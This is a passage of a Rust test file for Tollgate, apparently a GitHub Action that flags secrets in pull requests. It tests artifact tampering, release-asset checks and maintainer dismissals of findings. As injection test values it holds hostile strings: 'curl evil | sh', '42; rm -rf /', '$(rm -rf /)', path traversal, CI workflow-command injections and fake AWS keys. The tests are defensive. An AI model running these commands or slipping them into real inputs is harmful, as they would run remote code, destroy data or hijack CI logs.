                result["findings"][0]["location"]["start_line"] = 4_000_000_000u32.into();
                result["findings"][0]["location"]["end_line"] = 4_000_000_000u32.into();
            }),
        ),
        (
            "a hunk outside the repository",
            "hunks: path `../../x` is not a relative path",
            Box::new(|info, _, _| info["hunks"]["../../x"] = serde_json::json!([[1, 5]])),
        ),
        (
            "an absurd hunk",
            "is not a range of lines",
            Box::new(|info, _, _| {
                info["hunks"][CHANGED_FILE] = serde_json::json!([[1, 4_000_000_000u32]])
            }),
        ),
        (
            "a workflow command in a path",
            "path `a\\n::set-output name=x::pwned` is not",
            Box::new(|_, result, _| {
                result["findings"][0]["location"]["file"] = "a\n::set-output name=x::pwned".into()
            }),
        ),
        (
            "a workflow command in the schema",
            "schema `##%5Bset-output name=should-fail;]1`",
            Box::new(|info, _, _| info["schema"] = "##[set-output name=should-fail;]1".into()),
        ),
        (
            "a pull request number that is not one",
            "does not have the tollgate-publish/v1 shape",
            Box::new(|info, _, _| info["pull_request"] = "42; rm -rf /".into()),
        ),
        (
            "an unknown field",
            "does not have the tollgate-publish/v1 shape",
            Box::new(|info, _, _| info["run"] = "curl evil | sh".into()),
        ),
        (
            "another repository",
            "is for repository `victim/repo`",
            Box::new(|info, _, _| info["repository"] = "victim/repo".into()),
        ),
        ("another commit", "the artifact is about commit eeee", {
            let other_sha = other_sha.clone();
            Box::new(move |info, result, _| {
                info["head_sha"] = other_sha.clone().into();
                result["metadata"]["head_sha"] = other_sha.clone().into();
            })
        }),
        (
            "a result about another commit",
            "tollgate.json is about head eeee",
            Box::new(move |_, result, _| result["metadata"]["head_sha"] = "e".repeat(40).into()),
        ),
        (
            "an oversized result",
            "is 33554433 bytes, over the 33554432 accepted",
            Box::new(|_, _, dir| {
                // Valid JSON, padded past the 32 MiB limit: only the size refuses it.
                if let Some(dir) = dir {
                    let path = dir.join("tollgate.json");
                    let mut bytes = std::fs::read(&path).unwrap();
                    bytes.resize(32 * 1024 * 1024 + 1, b' ');
                    std::fs::write(&path, bytes).unwrap();
                }
            }),
        ),
        (
            "a missing result",
            "the artifact has no tollgate.json",
            Box::new(|_, _, dir| {
                if let Some(dir) = dir {
                    std::fs::remove_file(dir.join("tollgate.json")).unwrap();
                }
            }),
        ),
    ];
    for (what, reason, tamper) in cases {
        let dir = tempfile::tempdir().unwrap();
        let (mut info, mut result) = (info.clone(), result.clone());
        tamper(&mut info, &mut result, None);
        std::fs::write(dir.path().join("tollgate-publish.json"), info.to_string()).unwrap();
        std::fs::write(dir.path().join("tollgate.json"), result.to_string()).unwrap();
        tamper(&mut info, &mut result, Some(dir.path()));
        let server = server_for_pr();
        server.state().pulls.insert(42, pr.head.clone());
        let run = run_post(dir.path(), &pr.head, &server);
        assert_eq!(
            run.code, 2,
            "{what}: exit code\nstdout:\n{}\nstderr:\n{}",
            run.stdout, run.stderr
        );
        assert!(
            server.state().requests.is_empty(),
            "{what}: no call at all: {:#?}",
            server.state().requests
        );
        let lines: Vec<&str> = run.stdout.lines().collect();
        assert_eq!(lines.len(), 1, "{what}: {}", run.stdout);
        assert!(
            lines[0].starts_with(
                "::error title=Tollgate could not run::the stage-1 artifact is refused"
            ),
            "{what}: {}",
            run.stdout
        );
        assert!(lines[0].contains(reason), "{what}: {}", run.stdout);
        // Nothing the fork wrote can run as a command in the log, on either stream.
        for line in run.stdout.lines().chain(run.stderr.lines()) {
            assert!(!line.contains("##["), "{what}: {line}");
            assert!(!line.chars().any(char::is_control), "{what}: {line:?}");
        }
        for line in run.stderr.lines() {
            assert!(!line.trim_start().starts_with("::"), "{what}: {line}");
        }
        assert!(
            run.summary.is_empty(),
            "{what}: nothing reaches the job summary"
        );
    }
}

fn yaml(relative: &str) -> (String, serde_yaml_ng::Value) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("..")
        .join(relative);
    let text = std::fs::read_to_string(&path).unwrap();
    let value = serde_yaml_ng::from_str(&text).unwrap();
    (text, value)
}

/// `RUNNER_OS/RUNNER_ARCH` → the release asset and checksum file action.yml downloads, read
/// from its install script.
fn action_downloads() -> BTreeMap<String, (String, String)> {
    let (_, action) = yaml("action/action.yml");
    let script = action["runs"]["steps"][0]["run"].as_str().unwrap();
    let asset_template = script
        .lines()
        .find_map(|line| line.trim().strip_prefix("asset=\""))
        .and_then(|rest| rest.strip_suffix('"'))
        .expect("an `asset=\"…\"` line");
    assert!(
        script.contains("\"$base_url/$asset\"") && script.contains("\"$base_url/$asset.sha256\""),
        "the asset and `$asset.sha256` are downloaded:\n{script}"
    );
    let mut downloads = BTreeMap::new();
    for line in script.lines().map(str::trim) {
        let Some((runner, rest)) = line.split_once(')') else {
            continue;
        };
        let Some(target) = rest
            .trim()
            .strip_prefix("target=")
            .and_then(|rest| rest.split_whitespace().next())
        else {
            continue;
        };
        if target == "\"\"" {
            continue; // the unmapped runners build from source
        }
        let asset = asset_template.replace("${target}", target);
        downloads.insert(
            runner.to_string(),
            (asset.clone(), format!("{asset}.sha256")),
        );
    }
    downloads
}

#[test]
fn release_assets_are_the_ones_action_yml_downloads() {
    let downloads = action_downloads();
    let runners: Vec<&str> = downloads.keys().map(String::as_str).collect();
    assert_eq!(
        runners,
        [
            "Linux/ARM64",
            "Linux/X64",
            "Windows/X64",
            "macOS/ARM64",
            "macOS/X64"
        ]
    );

    let (text, release) = yaml(".github/workflows/release.yml");
    assert!(
        release["on"]["push"]["tags"].as_sequence().is_some(),
        "runs on tag pushes"
    );
    let build = &release["jobs"]["build"];
    let asset_template = build["env"]["ASSET"].as_str().unwrap();
    let steps = build["steps"].as_sequence().unwrap();
    let scripts: Vec<&str> = steps.iter().filter_map(|s| s["run"].as_str()).collect();
    let script_with = |needle: &str| scripts.iter().find(|s| s.contains(needle)).copied();
    let package = script_with("tar -czf").expect("a packaging step");
    assert!(
        package.contains("tar -czf \"$ASSET\" -C \"$staging\" \"$exe\""),
        "the binary sits at the archive's root, where action.yml extracts it:\n{package}"
    );
    assert!(package.contains("sha256sum \"$ASSET\" > \"$ASSET.sha256\""));
    assert!(package.contains("shasum -a 256 \"$ASSET\" > \"$ASSET.sha256\""));
    let upload = script_with("gh release upload").expect("an upload step");
    assert!(upload.contains("\"$ASSET\" \"$ASSET.sha256\""), "{upload}");
    // The executable names agree with the ones action.yml runs.
    let (_, action) = yaml("action/action.yml");
    let install = action["runs"]["steps"][0]["run"].as_str().unwrap();
    assert!(
        install.contains("exe=tollgate-action.exe") && package.contains("exe=tollgate-action.exe")
    );

    let mut produced = BTreeMap::new();
    for entry in build["strategy"]["matrix"]["include"]
        .as_sequence()
        .unwrap()
    {
        let target = entry["target"].as_str().unwrap();
        let os = entry["os"].as_str().unwrap();
        let asset = asset_template.replace("${{ matrix.target }}", target);
        produced.insert(asset.clone(), (format!("{asset}.sha256"), os.to_string()));
    }
    for (runner, (asset, checksum)) in &downloads {
        let Some((produced_checksum, os)) = produced.get(asset) else {
            panic!(
                "{runner}: action.yml downloads {asset}, which release.yml does not build: {produced:?}"
            );
        };
        assert_eq!(checksum, produced_checksum, "{runner}");
        // Built on a runner of the same OS (cross-compiling macOS x86_64 on arm64 is fine).
        let family = match runner.split('/').next().unwrap() {
            "Linux" => "ubuntu",
            "macOS" => "macos",
            "Windows" => "windows",
            other => panic!("unknown runner OS {other}"),
        };
        assert!(os.starts_with(family), "{runner}: {asset} is built on {os}");
    }
    assert_eq!(
        produced.len(),
        downloads.len(),
        "release.yml builds nothing action.yml never downloads"
    );

    // Third-party actions are pinned by full commit, each pin naming its version.
    for line in text.lines().filter(|line| line.contains("uses:")) {
        let reference = line.split("uses:").nth(1).unwrap().trim();
        let (_, rest) = reference.split_once('@').expect("a pinned ref");
        let (sha, comment) = rest.split_once(" # v").unwrap_or((rest, ""));
        assert!(
            sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()) && !comment.is_empty(),
            "not pinned to a commit with a version comment: {line}"
        );
    }
}

/// The findings of a run's `tollgate.json`: (kept, dismissed).
fn json_result(run: &ActionRun) -> Value {
    let text = std::fs::read_to_string(run.results.path().join("out/tollgate.json")).unwrap();
    serde_json::from_str(&text).unwrap()
}

fn has_secret_at(findings: &Value, line: u64) -> Option<&Value> {
    findings.as_array()?.iter().find(|f| {
        f["rule_id"] == "TG008"
            && f["location"]["file"] == CHANGED_FILE
            && f["location"]["start_line"] == line
    })
}

/// Issue 19: a finding dismissed by a maintainer's reply on push 1 stays out of the gate on
/// pushes 2 and 3 (its comment kept, never re-posted, SARIF marks it suppressed), a
/// contributor's reply counts for nothing, a thread a collaborator resolves dismisses too,
/// and the finding comes back, marked returning, once its line changes.
#[test]
fn a_finding_dismissed_on_the_pull_request_stays_dismissed_until_its_line_changes() {
    let pr = pr_repo();
    let server = server_for_pr();
    run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]).assert_code(1);
    let secret_id = server
        .state()
        .review_comments
        .iter()
        .find(|c| c["body"].as_str().unwrap().contains("`TG008`"))
        .expect("the secret has an inline comment")["id"]
        .as_u64()
        .unwrap();
    {
        let mut state = server.state();
        state
            .permissions
            .insert("maintainer".to_string(), "maintain".to_string());
        state.add_review_reply(
            secret_id,
            "forker",
            "CONTRIBUTOR",
            "/tollgate dismiss trust me",
        );
        state.add_review_reply(
            secret_id,
            "maintainer",
            "MEMBER",
            "/tollgate dismiss documented test key; `$(rm -rf /)`\n::error::x",
        );
    }

    // Push 2 adds a second key on line 30: the first stays dismissed, the second fails the gate.
    let mut lines: Vec<String> = (1..=40).map(|n| format!("SETTING_{n} = {n}")).collect();
    lines[19] = "AWS_ACCESS_KEY_ID = \"AKIAQWERTYUIOPASDFGH\"".to_string();
    lines[29] = "BACKUP_KEY_ID = \"AKIAZXCVBNMASDFGHJKL\"".to_string();
    pr.repo.write(CHANGED_FILE, &(lines.join("\n") + "\n"));
    let head = pr.repo.commit("push 2");
    let pr = PrRepo { head, ..pr };
    server.state().diff_lines = Some(BTreeMap::from([(
        CHANGED_FILE.to_string(),
        HUNK_LINES.chain(27..=33).collect(),
    )]));
    let n_before = server.state().requests.len();
    let push2 = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    push2.assert_code(1);
    let result = json_result(&push2);
    assert!(
        has_secret_at(&result["findings"], 20).is_none(),
        "{result:#}"
    );
    let dismissed = has_secret_at(&result["dismissed"], 20).expect("listed as dismissed");
    assert_eq!(dismissed["learning"]["status"], "dismissed");
    assert_eq!(dismissed["learning"]["by"], "maintainer");
    assert!(has_secret_at(&result["findings"], 30).is_some());
    assert!(
        push2
            .stdout
            .contains("ignored `/tollgate dismiss` by forker"),
        "{}",
        push2.stdout
    );
    let again: Vec<Recorded> = requests(&server).split_off(n_before);
    assert!(
        !again
            .iter()
            .any(|r| r.path() == format!("/repos/octo/repo/pulls/comments/{secret_id}")),
        "the dismissed finding's comment (and its thread) is kept: {again:#?}"
    );
    let posted: Vec<&Value> = again
        .iter()
        .filter(|r| r.is("POST", REVIEWS))
        .flat_map(|r| r.body["comments"].as_array().unwrap())
        .collect();
    assert_eq!(posted.len(), 1, "only the new key: {posted:#?}");
    assert_eq!(posted[0]["line"], 30);
    // The reason is data in the ledger line, never a workflow command.
    let ledger = std::fs::read_to_string(push2.results.path().join("out/learnings.jsonl")).unwrap();
    let line: Value = serde_json::from_str(ledger.lines().next().unwrap()).unwrap();
    assert_eq!(line["rule_id"], "TG008");
    assert_eq!(line["disposition"], "dismissed");
    assert!(!push2.stdout.contains("::error::x"), "{}", push2.stdout);
    let sarif = std::fs::read_to_string(push2.results.path().join("out/tollgate.sarif")).unwrap();
    assert!(sarif.contains("\"suppressions\""), "{sarif}");

    // A collaborator resolves the new key's thread; the author resolving it would not count.
    let second_id = server
        .state()
        .review_comments
        .iter()
        .find(|c| c["line"] == 30 && c["in_reply_to_id"].is_null())
        .expect("the second key has a comment")["id"]
        .as_u64()
        .unwrap();
    {
        let mut state = server.state();
        state
            .permissions
            .insert("maintainer".to_string(), "write".to_string());
        state.resolve_thread(second_id, "maintainer");
    }
    // Push 3 touches another file: both keys stay dismissed and the gate passes.
    pr.repo.write("README.md", "docs\n");
    let head = pr.repo.commit("push 3");
    let pr = PrRepo { head, ..pr };
    let push3 = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    push3.assert_code(0);
    let result = json_result(&push3);
    assert!(
        has_secret_at(&result["dismissed"], 20).is_some(),
        "{result:#}"
    );
    assert!(
        has_secret_at(&result["dismissed"], 30).is_some(),
        "{result:#}"
    );

    // Push 4 changes the first key's line: it comes back, marked returning, and fails the gate.
    lines[19] = "AWS_ACCESS_KEY_ID = \"AKIAPOIUYTREWQLKJHGF\"".to_string();
    pr.repo.write(CHANGED_FILE, &(lines.join("\n") + "\n"));
    let head = pr.repo.commit("push 4");
    let pr = PrRepo { head, ..pr };
    let push4 = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    push4.assert_code(1);
    let result = json_result(&push4);
    let back = has_secret_at(&result["findings"], 20).expect("back in the gate");
    assert_eq!(back["learning"]["status"], "returning", "{back:#}");
    assert!(
        has_secret_at(&result["dismissed"], 30).is_some(),
        "{result:#}"
    );
    // Issue 28: the old comment holds the dismissal reply, so it stays; the next push still
    // reads that dismissal and still shows the finding as returning.
    assert!(
        server
            .state()
            .review_comments
            .iter()
            .any(|c| c["id"] == secret_id),
        "the comment holding the dismissal is kept"
    );
    pr.repo.write("README.md", "docs, again\n");
    let head = pr.repo.commit("push 5");
    let pr = PrRepo { head, ..pr };
    let push5 = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    push5.assert_code(1);
    let result = json_result(&push5);
    let back = has_secret_at(&result["findings"], 20).expect("still in the gate");
    assert_eq!(back["learning"]["status"], "returning", "{back:#}");
}

/// Issue 28: GitHub gives read-only collaborators and organisation members the association
/// COLLABORATOR or MEMBER, so a reply is decided by the replier's permission, as a resolved
/// thread is; a thread's dismissal is recorded with the time GraphQL gives.
#[test]
fn only_write_permission_dismisses_and_resolved_threads_record_a_time() {
    let pr = pr_repo();
    let server = server_for_pr();
    run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]).assert_code(1);
    let secret_id = server
        .state()
        .review_comments
        .iter()
        .find(|c| c["body"].as_str().unwrap().contains("`TG008`"))
        .expect("the secret has an inline comment")["id"]
        .as_u64()
        .unwrap();
    {
        let mut state = server.state();
        state
            .permissions
            .insert("triager".to_string(), "triage".to_string());
        state.add_review_reply(secret_id, "reader", "COLLABORATOR", "/tollgate dismiss ok");
        state.add_review_reply(secret_id, "triager", "MEMBER", "/tollgate dismiss fine");
        state.resolve_thread(secret_id, "reader");
    }
    let again = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    again.assert_code(1);
    let result = json_result(&again);
    assert!(
        has_secret_at(&result["findings"], 20).is_some(),
        "{result:#}"
    );
    for who in ["by reader", "by triager", "thread reader resolved"] {
        assert!(again.stdout.contains(who), "{who}: {}", again.stdout);
    }

    // Someone with write access resolves it: dismissed, at the thread's newest comment's time.
    let latest = server
        .state()
        .review_comments
        .iter()
        .filter_map(|c| c["created_at"].as_str().map(String::from))
        .max()
        .unwrap();
    {
        let mut state = server.state();
        state
            .permissions
            .insert("writer".to_string(), "write".to_string());
        state.resolved_threads.clear();
        state.resolve_thread(secret_id, "writer");
    }
    let resolved = run_action(&pr, "pull_request", "pull_request.json", Some(&server), &[]);
    resolved.assert_code(0);
    let ledger =
        std::fs::read_to_string(resolved.results.path().join("out/learnings.jsonl")).unwrap();
    let line: Value = serde_json::from_str(ledger.lines().next().unwrap()).unwrap();
    assert_eq!(line["by"], "writer", "{ledger}");
    assert_eq!(line["at"], latest.as_str(), "{ledger}");
}
